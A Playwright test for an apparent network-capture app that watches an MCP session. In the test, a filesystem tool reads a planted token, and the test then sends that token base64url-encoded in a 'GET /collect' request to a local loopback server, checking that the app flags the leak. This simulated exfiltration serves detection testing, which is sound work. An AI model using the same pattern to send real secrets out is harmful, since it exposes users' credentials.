/** A live MCP session and a live capture of loopback, in which a secret that a tool read leaves in an HTTP request: one alert, with both frames. */
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js'
import { expect, test } from '@playwright/test'
import { canCapture, chooseLoopback, start, whyNoCapture } from './capturing.ts'
import { closeLeftovers, openFace, row, statusNumber } from './faces.ts'

const fromRoot = (path: string): string => fileURLToPath(new URL(`../../${path}`, import.meta.url))
const BIN = fromRoot('bin/tapscope.mjs')
const FILES = fromRoot('node_modules/@modelcontextprotocol/server-filesystem/dist/index.js')
const SECRET = 'tk9QmZ41xVbL7sWd0RpE'

async function readSecret(spools: string, folder: string): Promise<void> {
  mkdirSync(folder, { recursive: true })
  writeFileSync(join(folder, 'settings.ini'), `[service]\ntoken = ${SECRET}\n`)
  const env = { ...process.env, TAPSCOPE_SPOOLS: spools } as Record<string, string>
  const args = [BIN, 'wrap', '--', process.execPath, FILES, folder]
  const transport = new StdioClientTransport({ command: process.execPath, args, env, stderr: 'ignore' })
  const client = new Client({ name: 'agent', version: '1' })
  await client.connect(transport)
  await client.callTool({ name: 'read_text_file', arguments: { path: join(folder, 'settings.ini') } })
  await client.close()
}

async function send(path: string): Promise<void> {
  const server = createServer((_request, response) => response.end('ok'))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()))
  await (await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`)).text()
  await new Promise((resolve) => server.close(resolve))
}

test.describe('electron', () => {
  test.skip(!process.env.TAPSCOPE_ELECTRON, process.env.TAPSCOPE_SKIP_REASON_ELECTRON ?? 'no Electron')
  test.afterEach(closeLeftovers)

  test('a secret that leaves the machine', async () => {
    test.skip(!canCapture, whyNoCapture)
    const face = await openFace('electron')
    const { page } = face
    await chooseLoopback(page, 'tcp')
    await start(page)
    await page.getByTestId('rail-frames').click()
    await readSecret(face.spools, test.info().outputPath('files'))
    await send('/unrelated?x=1')
    await send(`/collect?d=${Buffer.from(SECRET).toString('base64url')}`)
    await expect.poll(() => statusNumber(page, 'status-frames')).toBeGreaterThan(10)

    await page.getByText('Alerts', { exact: true }).first().click()
    const alerts = page.getByTestId('alert-rows').getByRole('row').filter({ hasText: 'secret' })
    await expect(alerts).toHaveCount(1, { timeout: 20_000 })
    await alerts.click()
    const evidence = page.getByTestId('alert-evidence')
    await expect(evidence).toContainText('result of tools/call read_text_file')
    await expect(evidence).toContainText('GET /collect')
    await expect(page.getByTestId('alert-both')).toBeVisible()
    await expect(page.getByTestId('alert-view')).not.toContainText(SECRET)
    await evidence.getByRole('button').last().click()
    await expect(row(page, 'GET /collect').first()).toHaveClass(/row-selected/)
    await face.close()
  })
})
